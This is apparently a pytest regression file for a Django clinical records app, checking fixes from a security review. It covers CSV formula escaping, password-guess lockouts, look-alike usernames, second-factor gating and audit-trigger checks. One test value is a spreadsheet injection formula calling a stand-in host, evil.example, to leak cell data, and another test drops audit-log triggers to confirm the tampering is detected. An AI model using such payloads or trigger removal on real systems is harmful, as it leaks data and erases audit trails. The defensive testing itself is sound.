"""What an attack on the security work found, each tried again: formulas smuggled into the audit
CSV, a guesser holding up everyone's sign-in, synthetic clinicians given a password, the current
password guessed on the password page, look-alike usernames, the menu before the second factor,
list pages that did not say which patients they showed, and a date that crashed the audit page."""

from __future__ import annotations

import csv
import io
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from treatment_helpers import treated
from web_helpers import PASSWORD, acting, signed_in

from spinepath.accounts import services
from spinepath.accounts.services import staff_user_create
from spinepath.actors import Actor
from spinepath.audit.models import AuditEvent
from spinepath.cli import main
from spinepath.web.spreadsheet import cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_typed_as_a_username_is_plain_text_in_the_audit_csv(
    admin_client: Client,
) -> None:
    Client().post("/accounts/login/", {"username": FORMULA, "password": "x"})
    response = admin_client.get("/audit/audit-log.csv?action=sign_in_failed")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["username"] for r in rows] == ["'" + FORMULA]


def test_spreadsheet_cells_escape_formulas_but_keep_numbers() -> None:
    assert cell("=1+2") == "'=1+2"
    assert cell("@SUM(A1)") == "'@SUM(A1)"
    assert cell("+44 20 7946 0000") == "'+44 20 7946 0000"
    assert cell("-12.5") == "-12.5"
    assert cell(-12.5) == -12.5
    assert cell("Lopez") == "Lopez"


def test_an_impossible_date_on_the_audit_page_is_named_not_a_crash(admin_client: Client) -> None:
    for path in ("/audit/?to=9999-12-31", "/audit/audit-log.csv?from=0001-01-01"):
        response = admin_client.get(path)
        assert response.status_code in (200, 400)
        assert b"a date written YYYY-MM-DD, from 2000 on" in response.content


def test_a_synthetic_clinician_can_never_be_given_a_password(admin_user: User) -> None:
    record = staff_user_create(
        actor=Actor.system(), username="synthetic.clinician9", password=None, role="clinician"
    )
    with pytest.raises(services.Conflict):
        services.staff_password_reset(actor=acting(admin_user), user_id=record.pk)
    # Even a password set behind the application's back does not open a session.
    record.set_password(PASSWORD)
    record.save()
    response = Client().post(
        "/accounts/login/", {"username": "synthetic.clinician9", "password": PASSWORD}
    )
    assert response.status_code == 200 and not response.wsgi_request.user.is_authenticated


def test_five_wrong_current_passwords_end_the_session(clinician: User) -> None:
    client = signed_in(clinician)
    form = {"old_password": "guess", "new_password1": "x" * 12, "new_password2": "x" * 12}
    for _ in range(4):
        assert client.post("/accounts/password/", form).status_code == 400
    response = client.post("/accounts/password/", form)
    assert response.status_code == 302 and response["Location"] == "/accounts/login/"
    assert client.get("/patients/").status_code == 302  # signed out
    failures = AuditEvent.objects.filter(action="sign_in_failed", username="clin")
    assert failures.count() == 5
    assert "wrong current password" in failures.last().what


def test_look_alike_usernames_are_refused_by_every_route(
    admin_client: Client, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    form = {
        "username": "\u0430dmin",  # a Cyrillic a
        "first_name": "Eve",
        "last_name": "Imposter",
        "email": "",
        "roles": ["clinic_admin"],
    }
    response = admin_client.post("/accounts/staff/", form)
    assert response.status_code == 400
    assert "Use the letters a-z" in response.content.decode()
    password = tmp_path / "pw"
    password.write_text("a long and private phrase\n")
    assert main(["createadmin", "\u0430dmin", "--password-file", str(password)]) == 2
    assert "username: Use the letters a-z" in capsys.readouterr().err
    assert not User.objects.filter(username="\u0430dmin").exists()


def test_before_the_second_factor_no_menu_and_no_counts(clinician: User) -> None:
    treated(clinician, days_ago=200)  # a follow-up is open
    client = Client()
    client.post("/accounts/login/", {"username": "clin", "password": PASSWORD})
    page = client.get("/accounts/second-factor/set-up/").content.decode()
    assert 'aria-label="Main"' not in page and "Follow-up" not in page
    assert "Sign out" in page
    assert 'aria-label="Main"' in signed_in(clinician).get("/patients/").content.decode()


def test_a_guesser_hashing_one_username_does_not_hold_up_another(db: Any) -> None:
    held = threading.Event()
    release = threading.Event()

    def guesser() -> None:
        with services.one_sign_in_at_a_time("clin"):
            held.set()
            release.wait(10)

    thread = threading.Thread(target=guesser)
    thread.start()
    held.wait(5)
    started = time.monotonic()
    with services.one_sign_in_at_a_time("coord"):
        waited = time.monotonic() - started
    release.set()
    thread.join()
    assert waited < 1


def test_the_search_page_says_which_patients_it_showed(
    clinician: User, clinician_client: Client, admin_client: Client
) -> None:
    patient = treated(clinician, days_ago=60)
    clinician_client.get("/patients/?q=lopez")
    event = AuditEvent.objects.filter(action="view", what__startswith="patient search").get()
    assert event.detail["shown"] == [patient.mrn]
    assert event.what == "patient search: 1 shown"
    page = admin_client.get(f"/audit/?record={patient.mrn}&action=view")
    assert any(e.pk == event.pk for e in page.context["page"])


@pytest.mark.django_db(transaction=True)
def test_parallel_wrong_current_passwords_get_no_more_than_five_tries(clinician: User) -> None:
    from django.db import connection

    client = signed_in(clinician)
    form = {"old_password": "guess", "new_password1": "x" * 12, "new_password2": "x" * 12}
    barrier = threading.Barrier(12)
    statuses: list[int] = []

    def guess() -> None:
        try:
            barrier.wait()
            statuses.append(client.post("/accounts/password/", form).status_code)
        finally:
            connection.close()

    threads = [threading.Thread(target=guess) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    checked = AuditEvent.objects.filter(action="sign_in_failed", username="clin").count()
    assert checked == 5  # the other seven were refused before their password was checked
    assert statuses.count(400) == 4
    assert client.get("/patients/").status_code == 302  # signed out


def test_no_route_makes_a_look_alike_username(db: Any) -> None:
    from django.core.management import CommandError, call_command

    # Django's own command names the rule (the field's validator), not a traceback.
    with pytest.raises(CommandError, match="Use the letters a-z"):
        call_command(
            "createsuperuser", username="\u0430dmin", email="", interactive=False, verbosity=0
        )
    with pytest.raises(ValueError):
        User.objects.create_user(username="nurse 1", password=PASSWORD)
    assert not User.objects.filter(username__in=["\u0430dmin", "nurse 1"]).exists()


def test_audit_verify_reports_a_log_open_to_edits(
    db: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    from django.db import connection

    assert main(["audit", "verify"]) == 0
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("DROP TRIGGER audit_auditevent_never_deleted")
            cursor.execute("DROP TRIGGER consultations_candidacydecision_never_updated")
        else:
            cursor.execute("DROP TRIGGER audit_auditevent_never_deleted ON audit_auditevent")
            cursor.execute(
                "DROP TRIGGER consultations_candidacydecision_never_updated "
                "ON consultations_candidacydecision"
            )
    capsys.readouterr()
    assert main(["audit", "verify"]) == 1
    out = capsys.readouterr().out
    assert "NOT PROTECTED: the audit log's trigger audit_auditevent_never_deleted is missing" in out
    assert "signed decisions' triggers are missing" in out


def test_the_record_filter_reads_a_record_number_in_any_case(
    clinician: User, clinician_client: Client, admin_client: Client
) -> None:
    patient = treated(clinician, days_ago=60)
    clinician_client.get(f"/patients/{patient.pk}/")
    page = admin_client.get(f"/audit/?record={patient.mrn.lower()}&action=view")
    assert [e.what for e in page.context["page"]] == ["chart"]
